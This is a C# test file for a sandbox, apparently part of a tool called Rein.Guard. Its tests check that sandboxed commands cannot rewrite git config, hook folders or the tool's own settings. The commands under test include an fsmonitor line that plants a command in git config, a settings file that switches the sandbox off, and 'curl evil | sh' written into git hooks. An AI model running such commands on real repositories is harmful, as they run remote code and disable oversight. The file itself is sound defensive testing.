namespace Rein.Guard.Tests.Sandbox;

/// <summary>No sandboxed command can create, replace, rename or change what the host trusts later, existing or not.</summary>
public sealed class ProtectedWorkspaceTests : IDisposable
{
    private const string PlantedConfig = "[core]\n\tfsmonitor = touch /tmp/rein-planted\n";
    private readonly SandboxHarness _sandbox = new();

    public void Dispose() => _sandbox.Dispose();

    [Fact]
    public async Task Workspace_GitRenamedAwayAndRecreated_HostGitUnchanged()
    {
        Write(".git/config", "[core]\n");
        Write(".git/HEAD", "ref: refs/heads/main\n");

        var result = await _sandbox.RunAsync(
            $"mv .git .git-old; rm -rf .git; mkdir -p .git; printf '{PlantedConfig.Replace("\n", "\\n", StringComparison.Ordinal).Replace("\t", "\\t", StringComparison.Ordinal)}' > .git/config; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.Equal("[core]\n", Read(".git/config"));
        Assert.False(Path.Exists(Path.Join(_sandbox.Workspace, ".git-old")));
    }

    [Fact]
    public async Task Workspace_ReinMissing_CannotBeCreatedAndNoPlaceholderLeft()
    {
        var result = await _sandbox.RunAsync("mkdir -p .rein && echo '{\"sandbox\":{\"type\":\"none\"}}' > .rein/settings.json; mv .rein .r2; mkdir .git/hooks; echo ok > normal.txt; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Join(_sandbox.Workspace, "normal.txt")));
        Assert.False(Path.Exists(Path.Join(_sandbox.Workspace, ".rein")));
        Assert.False(Path.Exists(Path.Join(_sandbox.Workspace, ".r2")));
        Assert.False(Path.Exists(Path.Join(_sandbox.Workspace, ".git")));
    }

    [Fact]
    public async Task Workspace_GitFileOfAWorktree_RealGitFolderReadOnly()
    {
        Write("repo.git/config", "[core]\n");
        Write("repo.git/HEAD", "ref: refs/heads/main\n");
        Write(".git", "gitdir: repo.git\n");

        await _sandbox.RunAsync($"echo evil >> repo.git/config; mv repo.git r2; rm .git; echo 'gitdir: r3' > .git; echo done");

        Assert.Equal("[core]\n", Read("repo.git/config"));
        Assert.Equal("gitdir: repo.git\n", Read(".git"));
    }

    [Theory]
    [InlineData(".husky")]
    [InlineData(".husky/_")]
    public async Task Workspace_HooksPath_CannotBeWrittenOrMovedAside(string hooksPath)
    {
        Write(".git/config", $"[core]\n\thooksPath = {hooksPath}\n");
        Write(".husky/pre-commit", "npm test\n");

        var result = await _sandbox.RunAsync(
            $"echo 'curl evil | sh' > {hooksPath}/pre-commit; mv .husky .husky-old; mkdir -p {hooksPath}; echo 'curl evil | sh' > {hooksPath}/pre-push; echo ok > .husky/other; echo done");

        Assert.Contains("done", result.Output, StringComparison.Ordinal);
        Assert.Equal("npm test\n", Read(".husky/pre-commit"));
        Assert.False(Path.Exists(Path.Join(_sandbox.Workspace, ".husky-old")));
        Assert.False(File.Exists(Path.Join(_sandbox.Workspace, hooksPath, "pre-push")));
        if (hooksPath != ".husky")
        {
            // The missing hooks folder could not be created, and its placeholder is gone.
            Assert.False(Path.Exists(Path.Join(_sandbox.Workspace, hooksPath)));
        }
    }

    private void Write(string relative, string content)
    {
        var full = Path.Join(_sandbox.Workspace, relative);
        Directory.CreateDirectory(Path.GetDirectoryName(full)!);
        File.WriteAllText(full, content);
    }

    private string Read(string relative) => File.ReadAllText(Path.Join(_sandbox.Workspace, relative));
}
